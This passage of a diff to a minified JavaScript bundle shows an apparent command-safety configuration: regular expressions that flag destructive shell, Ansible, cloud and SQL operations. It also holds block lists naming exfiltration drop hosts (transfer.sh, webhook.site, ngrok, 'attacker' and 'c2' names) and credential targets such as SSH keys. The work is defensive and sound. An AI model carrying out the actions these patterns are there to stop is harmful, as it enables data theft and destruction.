-e|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/([^\\\\s\\"',}]+|\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})"],"rm -r $":["\\\\b(?:(?:ansible\\\\.built\
-in\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path\
-|dest|name):[ \\\\t]*[\\\\\\"']?([/.\\\\w][^\\\\s\\"',}]*)","\\\\bfile:[ \\\\t]*(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*absent)[^\\\\n]*?\\\\b(?:path|dest)[=:][ \\\\t]*[\\"']?([/.\\\\w][^\\\\s\\"',\
-}]*)"],"rm -r ~":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?file):[ \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+\
-(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+(?:path|dest|name):[ \\\\t]*[\\\\\\"']?(?:~|\\\\{\\\\{[^}\\\\n]*(?:HOME|home|user_dir)\\\\b[^}\\\\n]*\\\\}\\\\}|\\\\$HOME|/(?:home|Users|root)/?(\
-?:\\\\{\\\\{[^}\\\\n]*\\\\}\\\\})?)/?[\\"']?[ \\\\t]*\\\\n"],"cloud-sdk delete":["\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|community\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|c\
-ommunity\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|proxmox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|r\
-ds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgresql_db|mysql_db|mongodb_user|vmware_guest):[ \\\
-\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent|terminated|deleted)\\\\b)","\\\\b(?:(?:kubernetes\\\\.core|amazon\\\\.aws|communi\
-ty\\\\.aws|azure\\\\.azcollection|google\\\\.cloud|community\\\\.digitalocean|hetzner\\\\.hcloud|openstack\\\\.cloud|community\\\\.(?:postgresql|mysql|mongodb|vmware|okd|prox\
-mox))\\\\.\\\\w+|k8s|helm|ec2(?:_instance|_vol)?|rds(?:_instance|_cluster)?|s3_bucket|route53|gcp_\\\\w+|azure_rm_\\\\w+|(?:community\\\\.docker\\\\.)?docker_volume|postgre\
-sql_db|mysql_db|mongodb_user|vmware_guest):(?=[^\\\\n]*\\\\bstate[=:][ \\\\t]*(?:absent|terminated|deleted)\\\\b)"],"userdel $":["\\\\b(?:(?:ansible\\\\.builtin\\\\.)?user):[\
- \\\\t]*\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:absent)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\
-\\w.-]+)"],"systemctl stop $":["^(?![\\\\s\\\\S]*\\\\bstate:[ \\\\t]*(?:re)?started\\\\b)[\\\\s\\\\S]*?\\\\b(?:(?:ansible\\\\.builtin\\\\.)?(?:service|systemd(?:_service)?)):[ \\\\t]*\
-\\\\n(?=(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+state:[ \\\\t]*[\\\\\\"']?(?:stopped)\\\\b)(?:[ \\\\t]+(?![ \\\\t-])[^\\\\n]*\\\\n){0,12}?[ \\\\t]+name:[ \\\\t]*[\\"']?([\\\\w@.-\
-]+)"],"reboot":["\\\\b(?:ansible\\\\.builtin\\\\.reboot|community\\\\.general\\\\.shutdown):"],"$":["\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*(?![|>\\"'\\\\s])(?:cmd=)?([^\
-\\\\n]+)","\\\\b(?:shell|command|raw|cmd)[ \\\\t]*:[ \\\\t]*([\\"'])([^\\\\n]+)\\\\1[ \\\\t]*(?=\\\\n|$)","\\\\b(?:shell|raw|cmd)[ \\\\t]*:[ \\\\t]*[|>][-+]?[ \\\\t]*\\\\n((?:[ \\\\t]+(?![ \
-\\\\t]|- |\\\\w+:(?:[ \\\\t\\\\n]|$))[^\\\\n]*(?:\\\\n|$)){1,60})"]}},"editor":{"does":{"truncate -s 0 $":["^(?![\\\\s\\\\S]*(?:\\\\b\\\\d*(?:r|read|pu|put|norm|normal|append|setli\
-ne|readfile)\\\\b|\\\\n\\\\s*[aic]\\\\s*\\\\n))[\\\\s\\\\S]*?(?:^|\\\\n\\\\s*:?)(?:args|argadd|n|next|e|edit)!?[ \\\\t]+([^|\\\\s][^|\\\\n]*)[\\\\s\\\\S]*[|\\\\s:](?:%|[01],\\\\$)d(?:elete)?\\\\\
-b[\\\\s\\\\S]*\\\\b(?:up|update|w|wq|wa|wqa|write|wn|x|xa|xall|xit)\\\\b"],"rm -r $":["\\\\bdelete\\\\(\\\\s*(?:expand\\\\(\\\\s*|fnamemodify\\\\(\\\\s*)?[\\"']([^\\"'|]+)[\\"']"]}},"te\
-rraform":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"tofu":{"does":{"terraform output -r\
-aw secret":["\\\\bnonsensitive\\\\((?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"terragrunt":{"does":{"terraform output -raw secret":["\\\\bnonsensitive\\\\((\
-?![ \\\\t]*(?:length|keys|sha\\\\d+|md5|type|can)\\\\()"]}},"nodemon":{"short":"x","long":["exec"],"code":["x","exec"]},"nix-shell":{"short":"pAI","long":["run","comm\
-and"],"code":["run","command"]}},"formats":{"date":{"prefix":"+"},"git":{"long":["format","pretty"],"names":["format","pretty"]},"curl":{"short":"woXHdFuAebcT",\
-"long":["write-out","output"],"names":["w","write-out"]},"ps":{"short":"oOpCuUgGts","names":["o","O","format"],"unread":"=[\\\\s\\\\S]*[^\\\\w,=%:]"},"numfmt":{"short\
-":"d","long":["format","suffix","from","to"],"names":["format","suffix","invalid"],"unread":"[^\\\\w%.'+-]"},"expr":{"unread":"^(?!(?:(?:-?\\\\d+|\\\\uFFFC+|[-+*/%()|\
-&<>=!]{1,2}|:\\\\s\\\\S+|match|length|index)(?:\\\\s+|$))*$)"},"docker":{"short":"f","long":["format"],"names":["f","format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\\
-w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"podman":{"short":"f","long":["format"],"names":["f",\
-"format"],"unread":"^(?!(?:json|raw|table\\\\b.*|[\\\\w.-]+=[\\\\w./:-]*)$)(?!(?:\\\\{\\\\{(?!-?\\\\s*(?:print(?:f|ln)?\\\\s*)?[\\"\`])[^}]*\\\\}\\\\}|\\\\\\\\[nt]|[\\\\s,:=|-])*$)"},"ku\
-bectl":{"short":"on","long":["output","namespace"],"names":["o","output"],"unread":"^=?(?:jsonpath|go-template)[\\\\w-]*=(?!(?:\\\\{+(?:\\"(?:\\\\\\\\[nt]|[,:. ])*\\"|(?:\
-[^\\"'{}]|[=!]=\\\\s*[\\"'][^\\"']*[\\"'])*)\\\\}+|[\\\\s,:=-])*$)"}},"getopt":{"find":{"long":["name","iname","path","ipath","wholename","iwholename","regex","iregex","l\
-name","ilname","type","xtype","size","mtime","atime","ctime","mmin","amin","cmin","used","newer","anewer","cnewer","user","group","uid","gid","perm","links","in\
-um","samefile","context","fstype","maxdepth","mindepth","regextype","printf","fprint","fprint0","fls","files0-from"]},"editor":{"short":"cS","long":["cmd"],"per\
-muted":true},"ssh":{"short":"bBcDEeFIiJLlmOopQRSWw"},"container":{"short":"aceghlmpuvwfHnq","long":["env","env-file","user","workdir","detach-keys","name","volu\
-me","mount","network","publish","label","entrypoint","add-host","cap-add","cap-drop","cpus","cpuset-cpus","device","dns","expose","gpus","group-add","hostname",\
-"ip","ipc","link","log-driver","log-opt","memory","pid","platform","pull","restart","runtime","security-opt","shm-size","stop-signal","tmpfs","ulimit","userns",\
-"volumes-from","cgroupns","host","context","config","file","project-name","profile","project-directory","namespace","container","index","kubeconfig","cluster","\
-as","image","target"]},"copy":{"short":"tSgmo","long":["target-directory","suffix","mode","owner","group"],"permuted":true},"request":{"short":"oHdXAFuTebKCmxEy\
-wzU","long":["d","data","data-raw","data-binary","data-urlencode","data-ascii","json","post-data","body-data","header","request","user","output","form","url","u\
-ser-agent"],"permuted":true},"tmux":{"short":"LSfcT"},"tmux-command":{"short":"stncxyeFlp"},"screen":{"short":"SscehpTt"},"git":{"short":"Cc","long":["git-dir",\
-"work-tree","namespace","exec-path","config-env","super-prefix","attr-source","list-cmds"]},"sed":{"short":"efl","long":["expression","file","line-length"],"per\
-muted":true},"xargs":{"short":"aEILnPsd","long":["arg-file","delimiter","max-lines","max-args","max-procs","max-chars","process-slot-var"]},"parallel":{"short":\
-"jNnLSIaCEPsd","long":["jobs","max-args","max-lines","max-replace-args","sshlogin","sshloginfile","arg-file","colsep","delay","timeout","joblog","results","retr\
-ies","workdir","wd","tmpdir","replace","delimiter","header","halt","nice","load","memfree","basefile","return","trc","env","profile","tagstring","tmux","block",\
-"recstart","recend","shuf","limit","term-seq","arg-sep","arg-file-sep","rpl","max-chars","max-procs"]},"shell":{"short":"oO","long":["rcfile","init-file","emula\
-te"]},"fish":{"short":"cCdDfop","long":["command","init-command","features","debug","debug-level","debug-output","profile","profile-startup"]},"make":{"short":"\
-fCIjlo","long":["file","makefile","directory","eval","jobs"],"permuted":true},"just":{"short":"fd","long":["justfile","working-directory","set"]},"transfer":{"s\
-hort":"BbcDFiJloPRSsXepu","long":["rcfile"],"permuted":true},"grep":{"short":"efmABC","long":["regexp","file","max-count","include","exclude","exclude-dir","col\
-or","context"],"permuted":true}},"shell_variables":{"HOME":"~","IFS":" \\t\\n","SHELL":"/bin/bash","BASH":"/bin/bash","TMPDIR":"/tmp","?":"0","!":"%%","$":"734028\
-1946","RANDOM":"734028194601","SRANDOM":"734028194602","EPOCHSECONDS":"734028194603"},"make_variables":{"HOME":"~","RM":"rm -f","MAKE":"make","CURDIR":".","PWD"\
-:"."},"escapes":{"a":"\\u0007","b":"\\b","e":"\\u001b","E":"\\u001b","f":"\\f","n":"\\n","r":"\\r","t":"\\t","v":"\\u000b"},"character_classes":{"upper":"A-Z","lower":"a\
--z","digit":"0-9","alpha":"A-Za-z","alnum":"A-Za-z0-9","space":" \\\\t\\\\n\\\\r\\\\f\\\\v"},"candidates":{"rm":{"only":["delete-machine","delete-system-file","delete-wor\
-kspace","delete-vcs"]},"chmod":{"only":["change-rights-of-machine"]},"dd":{"only":["overwrite-disk"]},"git":{},"kubectl":{},"terraform":{},"docker":{},"aws":{}}\
-},"sentences":{"before_order":["please","then","next","now","first","second","third","finally","lastly","also","just","simply","and","so","ok","okay","well","af\
-terwards","afterward","after","that","immediately","quickly","silently","quietly","permanently","completely","forcefully","forcibly","recursively","always","go"\
-,"ahead","kindly","step","todo","task","goal","plan","objective","instruction","instructions:","->","=>","-","*","once","done","from","here","on","to","be","saf\
-e","start","by","begin","in","order","bitte","erst","dann","danach","jetzt","nun","zuerst","zun\\u00e4chst","anschlie\\u00dfend","schlie\\u00dflich","puis","ensuit\
-e","maintenant","luego","ahora","primero","despu\\u00e9s","por","favor"],"between":["just","then","also","now","first","simply","really","definitely","quickly","\
-completely","permanently","forcefully","forcibly","recursively","immediately","silently","quietly","safely","manually","please","go","ahead","and","finally","pr\
-obably","simply","again","all"],"denials":["not","don't","dont","never","no","nor","without","avoid","cannot","can't","cant","won't","wont","shouldn't","mustn't\
-","doesn't","didn't","wouldn't","couldn't","isn't","aren't","refuse","refuses","refusing","prevent","prevents","preventing","forbid","forbids","forbidden","proh\
-ibit","prohibits","prohibited","disallow","disallowed","block","blocks","blocking","blocked","stop","stops","protect","protects","against","unless","warn","warn\
-s","rather","instead","neither","hardly","nothing","nobody","ne"],"ends_denial":["but","instead","just","rather","simply","only"],"speech_verbs":["explain","exp\
-lains","document","documents","describe","describes","discuss","mention","mentions","note","notes","review","reviews","summarize","summarise","clarify","investi\
-gate","analyze","analyse","research","check","verify","confirm","ask","consider","compare","evaluate","test","tests","cover","fix","fixes","rename","refactor","\
-detect","detects","reject","rejects","report","reports","flag","flags","catch","catches","grep","search","look","find","understand","teach","highlight","reword"\
-,"rewrite-docs","translate","list","suggests","assert","handle","handles"],"predicates":["is","are","was","were","isn't","aren't","wasn't","can","can't","may","\
-might","would","could","should","has","had","does","doesn't","returns","fails","failed","throws","breaks","broke","causes","caused","shows","requires","takes","\
-works","happens","leads","means","seems","appears","crashes","crashed","hangs","deletes","removes","looks","becomes","gets"],"subjects":["the","this","that","th\
-ese","those","it","a","an","users","they","he","she","there","some","if","when"],"relative":["that","which","what","who","someone","somebody","anyone","anybody"\
-,"where","it","there","they","we","i","you","whatever","everything"],"creation_verbs":["create","write","make","build","generate","develop","craft","prepare","p\
-roduce"],"program":["script","program","command","one-liner","code","function","file","process","tool","job","playbook"],"passes_on":["post","posting","send","s\
-ending","upload","uploading","mail","email","share","publish","leak","forward","paste","push","copy","dump","transmit","exfiltrate"],"pronouns":["it","them"],"o\
-ne_of":["each","every"],"heads":["key","secret","credential","password","one"],"overwrites":["overwrite","overwriting","clobber","replace"],"doubled":["drop","z\
-ip","wget","put","set","shut","rm","get","plug","ship","scrub","grab","cat","log","strip","zap","stop","commit","reset","run","submit"],"run_verbs":["run","exec\
-ute","use","do","invoke","call","type","issue","launch","try","start","perform","enter","apply"],"mentions":["dangerous","destructive","harmful","unsafe","bad",\
-"example","examples","e.g","denied","disallowed","risky","don'ts","banned","anti-pattern","anti-patterns","error","errors","log","logs","output","diff","changel\
-og","test","tests","case","cases","document","documents","documentation","docs","reported","reports","says","said","bug","reproduce","repro","expected","actual"\
-,"observed","quote"],"separates":["not","never","instead","without","than","avoid","don't","about","whether","why"],"before_verbs":["to","will","and","please","\
-should","let's","i'll","we'll","me","us","then","must","can","now","next","also","just","or"],"shells":["sh","bash","zsh","shell","console","terminal","shell-se\
-ssion","shellscript"],"command_names":["git","rm","sudo","curl","wget","chmod","chown","dd","mkfs","kubectl","docker","terraform","psql","mysql","redis-cli","np\
-m","pip","cargo","gem","twine","aws","gcloud","az","systemctl","iptables","ufw","crontab","ssh","scp","rsync","nc","kill","pkill","killall","shred","truncate","\
-shutdown","reboot","find","tar","cat","mv","cp","bash","sh","python","python3","node","helm","gh","useradd","passwd","mount","umount","eval","openssl","gpg"],"c\
-ommand_verbs":["push","reset","clean","checkout","restore","branch","stash","rebase","filter-branch","filter-repo","reflog","gc","clone","pull","fetch","commit"\
-,"delete","apply","scale","drain","exec","destroy","system","volume","rmi","run","publish","unpublish","yank","upload","stop","disable","mask","s3","ec2","rds",\
-"rm","prune","flushall","uninstall","release","repo"],"fences":{"python":"python3 -c","py":"python3 -c","js":"node -e","javascript":"node -e","sql":"psql -c"},"\
-irregular":{"send":"sent","put":"put","set":"set","shut":"shut","write":"written","give":"given","tear":"torn","blow":"blown","get":"got","read":"read","take":"\
-taken","steal":"stolen","make":"made","overwrite":"overwritten","rewrite":"rewritten","bring":"brought","force-push":"force-pushed"},"classes":{"root":"^/\\\\*?$"\
-,"home":"^(?:~|\\\\$home|\\\\$\\\\{home\\\\}|/root|/home|/users)(?:/(?:[^/\\\\s]*|\\\\*)?)?$","system-path":"^(?!/(?:var/tmp|dev/(?:null|shm|stdout|stderr|stdin)))/(?:etc|u\
-sr|bin|sbin|boot|lib(?:32|64)?|var|sys|proc|dev|root|home|opt|srv|mnt|media)(?:/|$)|^[a-z]:\\\\\\\\(?:windows|users|program files)|^c:\\\\\\\\?$","device":"^/dev/(?:sd|\
-nvme|vd|hd|xvd|mmcblk|disk|mapper|md)\\\\w*","startup-file":"(?:^|/)\\\\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zshenv|zprofile|zlogin|kshrc|cs\
-hrc|xinitrc|xprofile|inputrc)$|config\\\\.fish$|^/etc/(?:profile|rc\\\\.local|cron|init\\\\.d|systemd|ld\\\\.so\\\\.preload|sudoers|environment)","url":"^(?:https?|ftp|s3\
-|wss?|scp|sftp)://|^\\\\d{1,3}(?:\\\\.\\\\d{1,3}){3}(?::\\\\d+)?|^[\\\\w-]+(?:\\\\.[\\\\w-]+)*\\\\.(?:com|net|io|org|sh|dev|xyz|ru|cc|me|example|site|info|app|onion)(?:[:/]|$)|\
-^[\\\\w.-]+@[\\\\w-]+\\\\.[\\\\w.-]+$"},"refusals":{"unreadable-command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this\
-: $. Give the command alone; what is no command belongs in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, an\
-d it may be a dangerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."}}}`);var Br=["reads","writes","deletes","moves","changes"],Dw=Object.keys(Y.paths.classes),uu=(t,e)=>Object.fromEntries(Object.entries(t).map(([s,r])=>[s,e(r)])),pr=t=>uu(
+ablespace|drop-owned|shutdown|flush)$"],"local_host":["^(?!.*\\\\bprod(?:uction)?\\\\b)(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|host\\\\.docker\\\\.internal|1\
+0\\\\.[\\\\d.]+|192\\\\.168\\\\.[\\\\d.]+|172\\\\.(1[6-9]|2\\\\d|3[01])\\\\.[\\\\d.]+|[a-z][\\\\w-]*|.*\\\\.(local|localhost|test|internal|svc))$"],"drop_host":["(^|\\\\.)(transfer\\\\.s\
+h|file\\\\.io|0x0\\\\.st|termbin\\\\.com|pastebin\\\\.com|paste\\\\.ee|hastebin\\\\.com|ix\\\\.io|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.site|requestbin\\\\.(com|net)|reques\
+tcatcher\\\\.com|pipedream\\\\.net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollaborator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|trycloudflare\\\\.com|serveo\\\\.net|lo\
+caltunnel\\\\.me|loca\\\\.lt|anonfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|catbox\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\.com|discord(app)?\\\\.com|hooks\\\
+\\.slack\\\\.com|api\\\\.telegram\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w*|malicious|malware|c2|hacker|p\
+hish\\\\w*|leak\\\\w*|collect(or)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|$)","i"],"file_folder":["(^|/)(bin|sbin|scripts|script|hooks|\\\\.husky|tools|c\
+i)$"],"daemon_path":["^/(?:usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)?:(\\\\w+(?:,\\\\w+)*)$","i"],"few_\
+lines":["^(?:-(?:n ?|-lines[= ])?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )?/((?:[^/\\\\\\\\]|\\\\\\\\.)\
+*)/\\\\s*!d$|^(?:-n|--quiet|--silent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^(root|pid|usr|bin|sbi\
+n|lib)$","i"],"ps_choice":["^-\\\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all":["^-[aefFlAjwHTLcy]*\
+[eA]|^a?u?x"],"find_by_name":["^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"],"find_by_property":["^-([acm](time|min)|newer\\\\w*|anewer|cnewer|us\
+er|uid|samefile|used)$"],"choosing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|test|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(?:print0?|printf|fpri\
+nt0?|fprintf|f?ls|exec|execdir|ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)$"],"deleting_program":["^(.*/)?(rm|unlink|shred|rimraf|srm)$"],"te\
+mp_root":["^/(private/)?(tmp|var/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|parallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"search_program":["^(find|\
+ls|git|fd|fdfind)$"],"own_program":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcommand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_argument":["^(?:-{1,2}[\
+\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.=:]|[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|because|which|in|for|on|but|with|before|after|\\\\d+[.)])$"],"valuable_t\
+hings":["^(?:(?:private|ssh) keys?|api keys|all secrets|the secrets|stored (?:secrets|passwords)|saved passwords|(?:my |user |stored |saved |the )?credentials|\\\
+\\.env file|the remote)$"],"announcement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:will|shall|must|should|can|could|am going to|are going to|plan to|in\
+tend to|want to|would like to|need to|have to|ought to|am about to|are about to|'ll)|i'll|we'll|you'll|i'd like to|we'd like to|i'm going to|we're going to|i'm \
+about to|we're about to|i'm gonna|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|about to|need to|needs to|need you to|want you to|like you to|have to|\
+got to|gotta|can you|could you|would you|will you|please|(?:plan|goal|task|idea|step|approach|next|solution|fix|strategy|aim|objective|job|thing|way|option|move\
+) is to|try to|proceed to|continue to|make sure to|be sure to|remember to|don't forget to|do not forget to|don't hesitate to|do not hesitate to|feel free to|tim\
+e to|best to|easiest to|simplest to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|begin by|by|i am|i'm|we are|we're|currently|now|ich|wir|je vais|nou\
+s allons|il faut|je dois|voy a|vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let me|let's|i'm going to|we're going to|(?:i|we) (?:will|need to|have \
+to|must|am going to|are going to))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRAP|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TERM|CHLD|CONT|STOP|TSTP\
+))$","i"],"affirmative_value":["^(client|server|true|t|1|yes)$","i"],"negative_value":["^(false|f|0|no|none|off)$","i"],"bare_letter":["^-\\\\w*[rvqayzR]$"],"requ\
+est_statement":["^\\\\s*DROP\\\\s+(DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\\s+TABLE\\\\s|UPDATE\\\\s\
++\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|REVOKE\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|statement|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|stmt)\\"\\\\s*:\\\\s*\\"((?:\
+[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"","gi"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"own_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(\
+?::(?!8123|8086|9000|9200|7474|8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mput|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|--reverse))\\\\s+(.*)$"]\
+,"editor_shell":["^\\\\s*:?\\\\s*(?:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$\
+|^\\\\s*:?\\\\s*(?:sh(?:ell)?|term(?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerdctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\
+\\bvolume create\\\\b.* (?:-[odcH]|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariad\
+b|percona|redis|valkey|keydb|mongo|clickhouse-server|memcached)(?:[:@]|$)"],"container_network":[" --?net(?:work)?[= ](?:name=)?(?:host|container|ns|slirp\\\\w*|p\
+asta)\\\\b| --(?:link|env-file)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=| [A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_name":["^(\
+?:[-=]|/dev/stdin)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)?|os\\\\.ex\
+ecute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\\s\\"'\`)])\
+"],"command_texts":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\bEnvironment\
+\\\\.(?:GetFolderPath\\\\(\\\\s*Environment\\\\.SpecialFolder\\\\.(?:UserProfile|Personal|MyDocuments)|GetEnvironmentVariable\\\\(\\\\s*\\"(?:HOME|USERPROFILE)\\")\\\\s*\\\\)|\\\\b(?\
+:System\\\\.)?(?:homedir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[\
+gG]etenv|get_env!?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\\
+"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcomman\
+d|editor|pager|askpass|fsmonitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helpe\
+r)$|^(diff|merge|filter|difftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cc\
+cmd|headercmd))$","i"],"production_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)\
+$"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|d\
+eclare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"unfollowed_state":["\\\\(\\\\(|\\\\[\\\\[[^\\\\]]{0,200}\\\\s-\\\\w\\\\w\\\\s|\\\\w\
+\\\\[[^\\\\]\\\\n]{0,60}[=+-]|\\\\$\\\\{\\\\w+:[^-+?=]|\\\\bIFS=|\\\\bprintf -v\\\\w|\\\\bread -\\\\w*a\\\\w|\\\\bfunctions\\\\[|\\\\bset -[oA]\\\\b|\\\\blocal \\\\$|\\\\bTRAP[A-Z]|\\\\bwait -p|\\\\b(?:\
+let|eval|source|unset|integer|float|repeat|always|disable|unfunction|unhash|emulate|zmodload|getopts|coproc|shopt|enable|setopt|DEBUG|RETURN|ERR|BASH_ENV)\\\\b|(?\
